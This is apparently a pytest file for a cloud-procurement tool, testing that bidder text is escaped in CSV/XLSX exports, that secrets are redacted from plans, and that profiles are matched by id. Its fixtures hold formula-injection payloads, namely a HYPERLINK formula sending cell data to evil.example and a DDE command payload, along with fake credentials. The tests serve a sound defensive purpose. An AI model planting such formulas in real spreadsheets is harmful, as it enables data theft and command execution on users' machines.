"""Hostile input, each case of the reliability review (shared/reference/reviews/reliability-review-2026-12-02.md)
that this file covers kept closed: a bidder's text never runs as a formula (rows 1, 8), a plan never shows a
secret (row 2), `diff --all` compares every profile by its id (row 4)."""
from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from hdhport import paths, plan_report, planner
from hdhport.loader import load_catalogue
from hdhport.procurement.presentation import FORMULA_TRIGGERS
from procurement_support import GRID_FORMULA, shipped, write_profile

# ------------------------------------------------------------------------------- formulas (rows 1 and 8)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {  # where the bidder writes it -> what it writes
    "name": HYPERLINK,
    "region": "=1+1",
    "cpu_vm.product": '=HYPERLINK("http://evil.example","x")',
    "cpu_vm.source": DDE,
    "cpu_vm.notes": "+SUM(1,2)",
    "gpu_vm.notes": "-1+1",
    "gpu_vm.source": "@SUM(1)",
    "batch_compute.notes": "\t=1+1",
    "kubernetes.notes": "\r=1+1",
}


@pytest.fixture(scope="module")
def evil_reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """`hdhport diff evil.yaml` as CSV and XLSX, the bidder's texts starting with formula triggers."""
    from hdhport.cli import main

    data = shipped("openstack-reference")
    data["id"] = "evil-bidder"
    data["name"] = HOSTILE["name"]
    data["regions"][0]["name"] = HOSTILE["region"]
    for where, text in HOSTILE.items():
        if "." in where:
            service, field = where.split(".")
            data["offers"][service][field] = text
    data["offers"]["container_registry"]["notes"] = "-3"  # a plain number stays a number
    directory = tmp_path_factory.mktemp("evil")
    profile = write_profile(directory, data)
    written = {}
    for output_format in ("csv", "xlsx"):
        out = directory / f"d.{output_format}"
        assert main(["diff", str(profile), "--format", output_format, "--out", str(out)]) == 0
        written[output_format] = out
    return written


def test_no_bidder_text_becomes_a_formula_in_the_spreadsheet(evil_reports: dict[str, Path]) -> None:
    with zipfile.ZipFile(evil_reports["xlsx"]) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")}
    # The live grid's own formulas (tests/test_procurement_xlsx_grid.py) are the only ones: references to the
    # grid's sheets, numbers and ROUND/SUM/RANK, never a bidder's text.
    formulas = [f for xml in sheets.values() for f in re.findall(r"<f>(.*?)</f>", xml)]
    assert formulas and all(GRID_FORMULA.fullmatch("=" + f) for f in formulas), formulas
    assert not [name for name, xml in sheets.items() if "<f " in xml]
    book = openpyxl.load_workbook(evil_reports["xlsx"])
    texts: dict[str, Any] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert GRID_FORMULA.fullmatch(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                    # only the grid's own places: none in the Matrix, a bidder sheet's total and rank
                    assert sheet.title in ("Summary", "Weights", "Scores") or \
                        (sheet.title == "evil-bidder" and cell.coordinate in ("D2", "F2")), cell.coordinate
                    continue
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)  # text, even when edited
                    texts[cell.value] = cell
    # Every hostile text reads back exactly as the bidder wrote it (no visible quote added).
    bidder = book["evil-bidder"]
    assert bidder["A1"].value == HYPERLINK
    assert any(str(c.value).startswith("=1+1 (") for row in bidder.iter_rows() for c in row)
    for where, text in HOSTILE.items():
        if "." in where:  # XML reads a carriage return back as a line feed
            assert text.replace("\r", "\n") in texts, where
    # Numbers stay numbers: the breakdown's points are numeric cells.
    scores = book["Scores"]
    header = [c.value for c in scores[1]]
    points = scores.cell(row=2, column=header.index("points") + 1)
    assert isinstance(points.value, (int, float)) and points.data_type == "n"
    assert book["Summary"]["C2"].value == HYPERLINK and book["Summary"]["C2"].data_type == "s"


def test_no_bidder_text_starts_a_formula_in_the_csv(evil_reports: dict[str, Path]) -> None:
    with evil_reports["csv"].open(encoding="utf-8", newline="") as file:  # as a spreadsheet reads it
        rows = list(csv.DictReader(file))
    assert len(rows) == len(load_catalogue(paths.CATALOGUE).services)  # a carriage return did not split a row
    assert all(None not in row and None not in row.values() for row in rows)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_TRIGGERS) or value == "-3", (row["service"], column, value)
    by_service = {row["service"]: row for row in rows}
    for where, text in HOSTILE.items():
        if "." in where:
            service, field = where.split(".")
            # OWASP: a leading quote, the text kept whole (a carriage return as a line feed, so the row holds)
            assert by_service[service][field] == "'" + text.replace("\r", "\n")
    assert by_service["container_registry"]["notes"] == "-3"


# -------------------------------------------------------------------------------- secrets in plans (row 2)

PEM_KEY = ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcPlainPemKeyBody\n"
           "-----END PRIVATE KEY-----\n")
CERTIFICATE = "-----BEGIN CERTIFICATE-----\nMIIBpublicCertificate\n-----END CERTIFICATE-----\n"
CLEAR_SECRETS = {
    "hdh:vpnSharedKey": "PlainVpnPsk-7f3a9c",
    "hdh:tlsPrivateKey": PEM_KEY,
    "hdh:tlsCertificate": CERTIFICATE,
    "hdh:databaseOwnerPassword": "PlainDbPass99",
    "openstack:token": "gAAAAABPlainKeystoneToken123",
    "openstack:authUrl": "https://user:PlainUrlPass@auth.example:5000/v3",
    "azure-native:sasToken": "sv=2022-11-02&ss=b&sig=PlainSasSig%2Babc%3D",
    # Passed on to a resource's inputs in clear (the Glance image's source URL).
    "hdh:imageSourceUrl": "https://mirror:PlainImagePass@images.example/debian.qcow2?sv=1&sig=PlainImageSig",
}
LEAKS = ("PlainVpnPsk", "PlainPemKeyBody", "PlainDbPass", "PlainKeystoneToken", "PlainUrlPass", "PlainSasSig",
         "PlainImagePass", "PlainImageSig")


def test_a_plan_never_shows_a_secret_given_in_clear(tmp_path: Path) -> None:
    config = planner.stack_config("ovhcloud-public-cloud") | {"hdh:enclaves": 0, **CLEAR_SECRETS}
    result = planner.run("ev-secrets", config)
    assert any("PlainImagePass" in json.dumps(r.inputs) for r in result.resources)  # it does reach an input
    plan_report.write(result, tmp_path, {})
    written = {p.name: p.read_text(encoding="utf-8") for p in tmp_path.iterdir()
               if p.suffix in (".json", ".md", ".dot")}
    assert set(written) >= {"plan.json", "plan.md", "plan.dot"}
    for name, text in written.items():
        assert not [leak for leak in LEAKS if leak in text], name
    document = json.loads(written["plan.json"])
    shown = document["config"]
    for key in ("hdh:vpnSharedKey", "hdh:tlsPrivateKey", "hdh:databaseOwnerPassword", "openstack:token",
                "azure-native:sasToken"):
        assert shown[key] == planner.REDACTED, key
    # What is not a secret stays readable: the URL but its password, public keys and certificates.
    assert shown["openstack:authUrl"] == "https://user:[secret]@auth.example:5000/v3"
    assert shown["hdh:adminSshPublicKey"] == config["hdh:adminSshPublicKey"]
    assert shown["hdh:tlsCertificate"] == CERTIFICATE
    (image,) = {r["inputs"]["imageSourceUrl"] for r in document["resources"] if "imageSourceUrl" in r["inputs"]}
    assert image == "https://mirror:[secret]@images.example/debian.qcow2?sv=1&sig=[secret]"


@pytest.mark.parametrize(("key", "secret"), [
    ("hdh:vpnSharedKey", True), ("hdh:tlsPrivateKey", True), ("openstack:token", True), ("clientSecret", True),
    ("azure-native:sasToken", True), ("SASToken", True), ("connectionString", True), ("storageAccountKey", True),
    ("scaleway:secret_key", True), ("passwordWo", True), ("psk", True), ("hdh:databaseOwnerPassword", True),
    ("passphrase", True), ("primaryKey", True),
    # public keys, references and ids of keys or secrets, settings and flags about them
    ("hdh:adminSshPublicKey", False), ("publicKey", False), ("keyData", False), ("keyRef", False),
    ("key_ref", False), ("keyVaultId", False), ("keyVaultSecretId", False), ("secretRef", False),
    ("hdh:tlsContainerRef", False), ("kmsMasterKeyId", False), ("primaryKeyURI", False), ("keySize", False),
    ("secretType", False), ("hdh:workloadCredentialExpiry", False), ("passwordWoVersion", False),
    ("hasSshPassword", False), ("allowSharedKeyAccess", False), ("activeKey", False), ("key", False),
    ("hdh:tlsCertificate", False),
])
def test_secret_keys_are_told_from_public_keys_and_references(key: str, secret: bool) -> None:
    assert plan_report.is_secret_key(key) is secret


def test_redaction_keeps_placeholders_flags_and_ciphertexts_out_of_sight() -> None:
    script = 'RESTIC_REPOSITORY="rest:https://$client:$password@vault:8000/"; password=$(hdh-secret x)'
    assert plan_report.redact({"userData": script}) == {"userData": script}
    assert plan_report.redact({"hasSshPassword": True, "password": {"secure": "v1:abc"},
                               "credentials": {"user": "u", "password": "p"},
                               "conn": "AccountName=a;AccountKey=PlainKey==;EndpointSuffix=x"}) == {
        "hasSshPassword": True, "password": "[secret]", "credentials": {"user": "[secret]", "password": "[secret]"},
        "conn": "AccountName=a;AccountKey=[secret];EndpointSuffix=x"}


# --------------------------------------------------------------------- diff --all by profile id (row 4)

@pytest.fixture
def profiles_dir(tmp_path: Path) -> Path:
    """Two shipped profiles, and a bidder's answer whose file name is not its id."""
    directory = tmp_path / "pdx"
    directory.mkdir()
    for pid in ("bleu", "scaleway"):
        shutil.copy(paths.PROFILES_DIR / f"{pid}.yaml", directory)
    data = shipped("ovhcloud-public-cloud")
    data["id"] = "acme"
    written = write_profile(directory, data)
    written.rename(directory / "acme-offer-v2.yaml")
    return directory


def test_diff_all_compares_every_profile_by_its_id(cli: Any, profiles_dir: Path) -> None:
    result = cli("--profiles-dir", str(profiles_dir), "diff", "--all", "--format", "json")
    assert result.code == 0, result.err
    report = json.loads(result.out)
    assert sorted(b["id"] for b in report["bidders"]) == ["acme", "bleu", "scaleway"]  # rows are in rank order
    assert next(b for b in report["bidders"] if b["id"] == "acme")["file"].endswith("acme-offer-v2.yaml")
    named = cli("--profiles-dir", str(profiles_dir), "diff", "acme", "--baseline", "bleu", "--format", "json")
    assert named.code == 0, named.err
    assert sorted(b["id"] for b in json.loads(named.out)["bidders"]) == ["acme", "bleu"]


def test_a_file_name_that_is_not_an_id_is_a_one_line_error(cli: Any, profiles_dir: Path) -> None:
    result = cli("--profiles-dir", str(profiles_dir), "diff", "acme-offer-v2")
    assert result.code == 2 and result.out == "" and len(result.err.strip().splitlines()) == 1, result.err
    assert result.err.startswith(f"acme-offer-v2: no profile with id 'acme-offer-v2' in {profiles_dir}; "
                                 "the file acme-offer-v2.yaml declares id 'acme'")
    unknown = cli("--profiles-dir", str(profiles_dir), "diff", "nobody", "--all")
    assert unknown.code == 2 and len(unknown.err.strip().splitlines()) == 1, unknown.err
    assert unknown.err.startswith("nobody: no profile with id 'nobody'") and "acme, bleu, scaleway" in unknown.err
    missing = cli("--profiles-dir", str(profiles_dir / "nope"), "diff", "--all")
    assert (missing.code, missing.err.strip()) == (2, f"--profiles-dir: {profiles_dir / 'nope'}: no such directory")


def test_one_id_in_two_files_is_a_located_error(cli: Any, profiles_dir: Path) -> None:
    shutil.copy(profiles_dir / "acme-offer-v2.yaml", profiles_dir / "acme-offer-v3.yaml")
    line = next(n for n, text in enumerate((profiles_dir / "acme-offer-v3.yaml").read_text().splitlines(), 1)
                if text.startswith("id:"))
    for argv in (["--all"], ["acme"]):
        result = cli("--profiles-dir", str(profiles_dir), "diff", *argv)
        assert result.code == 2 and result.out == "", result.err
        assert result.err.strip() == (f"{profiles_dir / 'acme-offer-v3.yaml'}:{line}:1: id: duplicate profile id "
                                      f"'acme' (also in {profiles_dir / 'acme-offer-v2.yaml'})"), result.err
